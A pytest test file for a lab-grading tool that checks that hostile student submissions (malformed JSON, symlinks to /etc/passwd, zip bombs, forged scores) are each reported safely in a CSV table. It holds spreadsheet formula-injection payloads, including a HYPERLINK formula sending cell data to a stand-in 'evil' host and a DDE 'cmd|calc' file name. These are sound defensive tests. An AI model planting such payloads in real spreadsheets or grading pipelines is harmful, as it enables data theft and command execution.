# SPDX-License-Identifier: Apache-2.0
"""Hostile submissions: each gets a row with a remark, and the rest of the class is graded."""

from __future__ import annotations

import contextlib
import csv
import functools
import io
import json
import os
import shutil
import socket
import subprocess
import time
import unicodedata
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from labs import grade
from labs.cli import main
from labs.results import digest_of
from labs.spec import find_lab
from labs.tests.test_grade import KEY, LAB, hand_in

FIRST = LAB.spec.checks[0]
FIND_LAB = functools.cache(find_lab)


def template(folder: Path) -> dict[str, Any]:
    values: dict[str, Any] = json.loads(hand_in(folder, "eve", "i9").read_text())
    shutil.rmtree(folder / "eve")
    return values


def is_shown(text: str) -> bool:
    return not any(unicodedata.category(c)[0] == "C" or c in "\u2028\u2029" for c in text)


def rows(folder: Path, key: bytes | None = None) -> list[dict[str, str]]:
    """Return them as a spreadsheet reads them; rows have all columns and no more."""
    screen = io.StringIO(newline="")
    grade.grade(folder, None, key, screen)
    table = list(csv.reader(io.StringIO(screen.getvalue(), newline=""), strict=True))
    assert all(len(line) == len(grade.COLUMNS) for line in table)
    return [dict(zip(table[0], line, strict=True)) for line in table[1:]]


def beside_ann(folder: Path, **more: str) -> dict[str, str]:
    """Return the other of two rows; ann's is as it must be. A spreadsheet evaluates neither."""
    found = {row["file"]: row for row in rows(folder)}
    ann = found.pop("ann/result-1.json")
    assert (ann["score"], ann["digest"], ann["remarks"]) == ("100", "ok", "")
    (other,) = found.values()
    assert other["remarks"]
    for text in other.values():
        assert text.strip()[:1] not in ("=", "+", "-", "@")
        assert is_shown(text)
    for column, text in more.items():
        assert text in other[column]
    return other


@pytest.fixture(autouse=True)
def _labs_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(grade, "find_lab", FIND_LAB)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = tmp_path / "class"
    hand_in(made, "ann", "i1", 8)
    return made


def signed(values: dict[str, Any]) -> bytes:
    """Return them with a digest that fits, if there is one."""
    with contextlib.suppress(ValueError, RecursionError):
        values = {**values, "digest": digest_of(values, None)}
    return json.dumps(values).encode()


DIGITS = "9" * 4200
TEXTS: dict[str, bytes] = {
    "empty": b"",
    "NUL bytes": bytes(1000),
    "random bytes": bytes(range(256)),
    "a list": b"[]",
    "a text": b'"result"',
    "null": b"null",
    "NaN": b"NaN",
    "nested lists": b"[" * 100_000,
    "nested objects": b'{"a":' * 100_000,
    "too large": b'{"format":1,"x":"' + b"a" * 1_000_000 + b'"}',
    "two keys": b'{"format":1,"score":1,"score":100}',
    "many keys, one twice": json.dumps({str(n): n for n in range(60_000)}).encode()[:-1]
    + b',"59999":1}',
}


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_files_of_any_bytes(folder: Path, text: bytes) -> None:
    (folder / "result-1.json").write_bytes(text)
    beside_ann(folder, remarks="cannot be read")


ENCODINGS = ("latin-1", "utf-16", "utf-16-le", "utf-32", "utf-8-sig", "cp037")


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_wrong_encodings(folder: Path, tmp_path: Path, encoding: str) -> None:
    values = {**template(tmp_path), "title": "Grüße"}
    (folder / "result-1.json").write_bytes(json.dumps(values, ensure_ascii=False).encode(encoding))
    beside_ann(folder, remarks="cannot be read")


@pytest.mark.parametrize("key", ["student", "clock", "digest", "identity", "title", "other"])
@pytest.mark.parametrize("text", ["\ud800", "a\udfffb", "\udcff" * 500])
def test_lone_surrogates_in_values(folder: Path, tmp_path: Path, key: str, text: str) -> None:
    (folder / "result-1.json").write_bytes(json.dumps({**template(tmp_path), key: text}).encode())
    beside_ann(folder, remarks="lone surrogate")


def test_lone_surrogates_in_keys_and_checks(folder: Path, tmp_path: Path) -> None:
    values = template(tmp_path)
    hostile: list[dict[str, Any]] = [
        {"\ud800": 1}, {"parameters": {"\ud800": 1}}, {"checks": [{"name": "\ud800"}]}
    ]  # fmt: skip
    for number, bad in enumerate(hostile):
        (folder / f"result-{number}.json").write_bytes(json.dumps({**values, **bad}).encode())
    assert ["surrogate" in row["remarks"] for row in rows(folder)] == [False, True, True, True]


@pytest.mark.parametrize("depth", [30, 500, 900, 940, 960, 975, 985, 990, 995, 1000, 5000])
def test_any_depth(folder: Path, tmp_path: Path, depth: int) -> None:
    text = json.dumps({**template(tmp_path), "extra": 0})
    nested = text.replace('"extra": 0', f'"extra": {"[" * depth}{"]" * depth}')
    (folder / "result-1.json").write_text(nested)
    beside_ann(folder, remarks="nested more than 20 deep")


NUMBERS = (DIGITS, DIGITS * 2, f"-{DIGITS}", "1e999", "-1e999", "1" + "0" * 30, "NaN", "Infinity",
           "-Infinity", f"0.{DIGITS}e{DIGITS}")  # fmt: skip


@pytest.mark.parametrize("key", ["lab", "score", "points", "checked", "format", "extra"])
@pytest.mark.parametrize("number", NUMBERS, ids=lambda text: text[:12])
def test_huge_and_impossible_numbers(folder: Path, tmp_path: Path, key: str, number: str) -> None:
    text = json.dumps({**template(tmp_path), key: "HERE"}).replace('"HERE"', number)
    (folder / "result-1.json").write_text(text)
    beside_ann(folder)


KINDS: tuple[Any, ...] = (
    None, True, 0, -1, 1.5, 1e300, -1e17, 99, "", "text", "=1", [], [[]], [1], {}, {"a": 1},
)  # fmt: skip
FIELDS = ("format", "lab", "student", "identity", "checked", "clock", "parameters",
          "parameters_digest", "checks", "score", "points", "digest")  # fmt: skip


@pytest.mark.parametrize("key", FIELDS)
@pytest.mark.parametrize("value", KINDS, ids=repr)
def test_wrong_types_in_every_field(folder: Path, tmp_path: Path, key: str, value: Any) -> None:
    values = template(tmp_path)
    (folder / "result-1.json").write_bytes(json.dumps({**values, key: value}).encode())
    beside_ann(folder)
    del values[key]
    (folder / "result-1.json").write_bytes(json.dumps(values).encode())
    beside_ann(folder)


@pytest.mark.parametrize("key", ["name", "status", "points", "score", "title"])
@pytest.mark.parametrize("value", KINDS, ids=repr)
def test_wrong_types_in_a_check(folder: Path, tmp_path: Path, key: str, value: Any) -> None:
    values = template(tmp_path)
    values["checks"][0][key] = value
    (folder / "result-1.json").write_bytes(json.dumps(values).encode())
    beside_ann(folder)


# -- other files ----------------------------------------------------------------------
def _fifo(path: Path) -> None:
    os.mkfifo(path)


def _loop(path: Path) -> None:
    path.symlink_to(path)


def _socket(path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as made:
        before = Path.cwd()
        os.chdir(path.parent)  # a socket's path must be short
        try:
            made.bind(path.name)
        finally:
            os.chdir(before)


def _link(target: str) -> Callable[[Path], None]:
    return lambda path: path.symlink_to(target)


SPECIAL: dict[str, Callable[[Path], None]] = {
    "FIFO": _fifo,
    "directory": Path.mkdir,
    "loop": _loop,
    "socket": _socket,
    "link to nothing": _link("nothing"),
    "link to endless input": _link("/dev/zero"),
    "link to a directory": _link("/proc"),
    "link to another's": _link("ann/result-1.json"),
    "link to a secret": _link("/etc/passwd"),
}


@pytest.mark.parametrize("make", SPECIAL.values(), ids=SPECIAL)
def test_what_is_no_regular_file(folder: Path, make: Callable[[Path], None]) -> None:
    make(folder / "result-1.json")
    beside_ann(folder, remarks="cannot be read: found a", file="result-1.json")


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads everything")
def test_an_unreadable_file_and_directory(folder: Path) -> None:
    (folder / "result-1.json").write_text("{}")
    (folder / "result-1.json").chmod(0)
    beside_ann(folder, remarks="Permission denied")
    (folder / "result-1.json").unlink()
    (folder / "ben").mkdir(mode=0)
    beside_ann(folder, remarks="cannot be listed: Permission denied", file="ben")
    (folder / "ben").chmod(0o700)


def test_what_the_system_refuses_to_read_or_list(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Like `test_an_unreadable_file_and_directory`, which root cannot test."""
    opened, listed = os.open, os.scandir
    (folder / "result-1.json").write_text("{}")
    (folder / "ben").mkdir()

    def no_open(path: Any, *more: Any, **named: Any) -> int:
        if path == os.fsencode(folder / "result-1.json"):
            raise PermissionError(13, "Permission denied", path)
        return opened(path, *more, **named)

    def no_list(path: Any) -> Any:
        if path == os.fsencode(folder / "ben"):
            raise PermissionError(13, "Permission denied", path)
        return listed(path)

    monkeypatch.setattr(os, "open", no_open)
    monkeypatch.setattr(os, "scandir", no_list)
    found = {row["file"]: row["remarks"] for row in rows(folder)}
    assert found == {
        "ann/result-1.json": "",
        "ben": "cannot be read: a directory that cannot be listed: Permission denied",
        "result-1.json": "cannot be read: Permission denied",
    }


@pytest.mark.parametrize(
    "name", [b"\xff\xfe.json", b"\xe9/result-1.json", b"a\nb.json", b"a\rb,100,.json", b"=1+1.json",
             b" =cmd|calc!A0.json", b"-1.json", b"@x/result-1.json", b"\t=1.json", b"\r=1.json",
             b"\x1b[2J.json", b"x;=1.json", "\u202egnp.json".encode(), b'"=1.json', b".json",
             b"+" * 200 + b".json"]
)  # fmt: skip
def test_names_of_files_and_directories(folder: Path, name: bytes) -> None:
    path = folder / os.fsdecode(name)
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(b"{}")
    other = beside_ann(folder, remarks="cannot be read")
    assert ";=" not in other["file"]
    assert ".json" in other["file"]


def test_directories_nested_deeper_than_the_interpreter_recurses(folder: Path) -> None:
    deep = os.open(folder, os.O_RDONLY)
    for _ in range(1500):
        os.mkdir("d", dir_fd=deep)
        below = os.open("d", os.O_RDONLY, dir_fd=deep)
        os.close(deep)
        deep = below
    os.close(deep)
    try:
        assert [row["file"] for row in rows(folder)] == ["ann/result-1.json"]
    finally:
        subprocess.run(["rm", "-r", folder / "d"], check=True)  # shutil would recurse


def test_a_table_on_a_screen_of_ascii_and_in_a_file(
    folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (folder / "ü\udcff.json").write_text("{}")
    assert main(["grade", str(folder)]) == 1
    assert main(["grade", str(folder), "-o", str(tmp_path / "out.csv")]) == 1
    assert (tmp_path / "out.csv").read_text("utf-8") == capsys.readouterr().out
    assert "ü\\xff.json" in (tmp_path / "out.csv").read_text("utf-8")
    assert main(["grade", str(folder), "-o", str(folder)]) == 2
    assert capsys.readouterr().err.count("\n") == 1
    assert not list(tmp_path.glob(".*"))


@pytest.mark.parametrize("name", ["none", "file", "loop", "x" * 300, "loop/below", "\udcff"])
def test_a_folder_that_is_none(
    tmp_path: Path, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "file").touch()
    (tmp_path / "loop").symlink_to("loop")
    assert main(["grade", str(tmp_path / name)]) == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert "valid: a directory with result files" in line


# -- formulas ---------------------------------------------------------------------------------
FORMULAS = ('=HYPERLINK("http://evil/?"&A1,"ok")', "+1", "-1", "@SUM(A1)", "\r=1", "\n=1", "\t=1",
            " =1", "\u00a0=1", "\u3000 \t@x", "\x00=1", "\x1b=1", "\u200b=1", "\ufeff=1",
            "\uff1d1+1", '"=1', "x\r=1", "x\n=1,100", "ann;=1")  # fmt: skip


@pytest.mark.parametrize("key", ["student", "clock", "points", "score", "digest", "checked", "lab"])
@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_formulas_in_every_field(folder: Path, tmp_path: Path, key: str, formula: str) -> None:
    values = {**template(tmp_path), key: formula}
    data = json.dumps(values).encode() if key == "digest" else signed(values)
    (folder / "result-1.json").write_bytes(data)
    other = beside_ann(folder)
    assert not any(";=" in text or text[:1] in "\uff1d \t\r\n" for text in other.values() if text)
    if key in ("student", "clock") and formula.isprintable() and formula[:1] in "=+-@":
        assert other[key] == f"'{formula}"


def test_an_ordinary_name_stays_as_it_is(tmp_path: Path) -> None:
    hand_in(tmp_path, "Ann-Marie O. Lee", "i1", 8)
    (row,) = rows(tmp_path)
    assert (row["student"], row["remarks"]) == ("Ann-Marie O. Lee", "")


# -- scores -----------------------------------------------------------------------------------
def forged(folder: Path, key: bytes | None = None, **values: Any) -> None:
    changed = {**template(folder.parent / "forge"), **values}
    (folder / "result-1.json").write_text(
        json.dumps({**changed, "digest": digest_of(changed, key)})
    )


def passing(**values: Any) -> dict[str, Any]:
    whole = {"title": "", "tried": "", "expected": "", "found": "", "hint": ""}
    return {"name": FIRST.name, "points": FIRST.points, "score": FIRST.points, "status": "passed",
            **whole, **values}  # fmt: skip


SCORES: dict[str, tuple[list[Any], int, str]] = {
    "20 times": ([passing()] * 20, FIRST.points, f"check '{FIRST.name}' occurs 20 times"),
    "passed and failed": (
        [passing(), passing(status="failed", score=0)], 0, f"check '{FIRST.name}' occurs 2 times"
    ),
    "unknown": ([passing(name="gift")], 0, "entry 1 is not a check of lab 1"),
    "more points": ([passing(points=100, score=100)], 0, f"points 100; valid: {FIRST.points}"),
    "points as text": ([passing(points=str(FIRST.points))], 0, "does not count: found points"),
    "points as float": ([passing(points=float(FIRST.points))], 0, "not count: found points"),
    "points true": ([passing(points=True)], 0, "does not count: found points"),
    "more score": ([passing(score=100)], 0, "found score 100 with status passed"),
    "failed with a score": ([passing(status="failed")], 0, "with status failed; valid: 0"),
    "another status": ([passing(status="PASSED")], 0, "found status 'PASSED'"),
    "status a list": ([passing(status=["passed"])], 0, "found status"),
    "absent": ([passing()], FIRST.points, "without the checks"),
}  # fmt: skip


@pytest.mark.parametrize(("checks", "counts", "remark"), SCORES.values(), ids=SCORES)
def test_inflated_scores_do_not_count(
    folder: Path, checks: list[Any], counts: int, remark: str
) -> None:
    forged(folder, checks=checks, score=100, points=100)
    other = beside_ann(folder, remarks=remark)
    assert (other["score"], other["points"], other["digest"]) == (str(counts), "100", "ok")
    assert f"score is 100, its checks give {counts} of 100" in other["remarks"]


def test_points_that_are_not_the_labs(folder: Path) -> None:
    forged(folder, points=30)
    other = beside_ann(folder, remarks="score is 30 of 30, its checks give 30 of 100")
    assert (other["score"], other["points"]) == ("30", "100")


def test_a_key_does_not_make_a_forged_score_count(folder: Path) -> None:
    forged(folder, KEY, checks=[passing()] * 20, score=100)
    (other,) = (row for row in rows(folder, KEY) if row["student"] == "eve")
    assert (other["score"], other["digest"]) == (str(FIRST.points), "ok with key")
    assert "occurs 20 times" in other["remarks"]


def test_a_class_of_copies_makes_no_table_that_fills_the_disk(tmp_path: Path) -> None:
    text = hand_in(tmp_path, "ann", "i1").read_text()
    for number in range(300):
        values = {**json.loads(text), "student": f"s{number}"}
        (tmp_path / f"{number}.json").write_bytes(signed(values))
    found = rows(tmp_path)
    assert len(found) == 301
    assert all("and 295 more" in row["remarks"] for row in found)
    assert all(len(row["remarks"]) < 500 for row in found)


# -- archives, and very many files ------------------------------------------------------------
def nested_zip(depth: int) -> bytes:
    """Return a ZIP in a ZIP ..., the innermost with 50 MB of zeros."""
    data, name = bytes(50_000_000), "result-1.json"
    for number in range(depth):
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(name, data)
        data, name = made.getvalue(), f"{number}.zip"
    return data


@pytest.mark.slow
@pytest.mark.parametrize("name", ["eve.zip", "eve.TAR.GZ", "eve/hand-in.zip", "\x1b=eve.7z"])
def test_an_archive_is_told_and_not_unpacked(folder: Path, name: str) -> None:
    (folder / name).parent.mkdir(exist_ok=True)
    (folder / name).write_bytes(nested_zip(3))
    other = beside_ann(folder, remarks="an archive; valid: its files, unpacked")
    assert other["score"] == ""


@pytest.mark.slow
def test_an_archive_that_is_called_a_result(folder: Path) -> None:
    (folder / "eve").mkdir()
    (folder / "eve/result-1.json").write_bytes(nested_zip(3))
    beside_ann(folder, remarks="cannot be read")


def test_an_archive_among_a_students_runs_is_no_hand_in(folder: Path) -> None:
    (folder / "ann/runs/1").mkdir(parents=True)
    (folder / "ann/runs/1/trace.zip").write_bytes(b"PK")
    assert [row["file"] for row in rows(folder)] == ["ann/result-1.json"]


def test_a_sparse_file_of_a_terabyte(folder: Path) -> None:
    (folder / "eve").mkdir()
    path = folder / "eve/result-1.json"
    path.touch()
    os.truncate(path, 1 << 40)
    beside_ann(folder, remarks="more than 1 MB")


@pytest.mark.slow
def test_ten_thousand_files_of_every_kind(folder: Path) -> None:
    """One student fills a class's folder; the others' rows are there, in bounded time and
    memory."""
    kinds: list[Callable[[Path], object]] = [
        lambda path: path.write_bytes(signed({**eve, "identity": path.parent.name})),
        lambda path: path.write_bytes(b"\xff" * 100),
        lambda path: path.write_bytes(b"[" * 10_000),
        lambda path: path.write_bytes(b'{"student":"\\ud800"}'),
        os.mkfifo,
        lambda path: path.symlink_to("/dev/zero"),
        lambda path: path.mkdir(),
        lambda path: path.write_bytes(signed({**eve, "student": "=1+1", "clock": "@x"})),
    ]
    eve = template(folder)
    for number in range(10_000):
        directory = folder / "eve" / str(number)
        directory.mkdir(parents=True)
        kinds[number % len(kinds)](directory / "result-1.json")
    began = time.monotonic()
    found = {row["file"]: row for row in rows(folder)}
    took_s = time.monotonic() - began
    assert len(found) == 10_001
    ann = found.pop("ann/result-1.json")
    assert (ann["score"], ann["remarks"]) == ("100", "")
    assert all(row["remarks"] and len(row["remarks"]) < 1000 for row in found.values())
    print(f"10,001 files graded in {took_s:.1f} s")
    assert took_s < 120


# -- whatever else ----------------------------------------------------------------------------
ANY_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats()
    | st.text(st.characters(codec=None, exclude_categories=())),
    lambda inner: st.lists(inner, max_size=4)
    | st.dictionaries(st.text(st.characters(exclude_categories=()), max_size=8), inner, max_size=4),
    max_leaves=12,
)  # fmt: skip
CHANGES = st.dictionaries(st.sampled_from(FIELDS) | st.text(max_size=4), ANY_JSON, max_size=4)
CHECK_CHANGES = st.dictionaries(
    st.sampled_from(["name", "status", "points", "score", "hint"]), ANY_JSON, max_size=3
)


@pytest.mark.slow
@settings(max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(changes=CHANGES, of_check=CHECK_CHANGES, whole=st.none() | ANY_JSON, sign=st.booleans())
def test_any_json_gets_a_row(
    folder: Path, changes: dict[str, Any], of_check: dict[str, Any], whole: Any, sign: bool
) -> None:
    values = template(folder.parent / "any")
    values["checks"][0].update(of_check)
    values.update(changes)
    data = signed(values) if sign else json.dumps(values).encode()
    (folder / "result-1.json").write_bytes(json.dumps(whole).encode() if whole else data)
    found = {row["file"]: row for row in rows(folder)}
    assert set(found) == {"ann/result-1.json", "result-1.json"}
    assert found["ann/result-1.json"]["score"] == "100"
    other = found["result-1.json"]
    assert all(is_shown(text) for text in other.values())
    assert all(text.strip()[:1] not in ("=", "+", "-", "@") for text in other.values())
    assert other["score"] in ("", "0", *map(str, range(101)))


@settings(max_examples=100, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.binary(max_size=300))
def test_any_bytes_get_a_row(folder: Path, data: bytes) -> None:
    (folder / "result-1.json").write_bytes(data)
    beside_ann(folder, remarks="cannot be read")
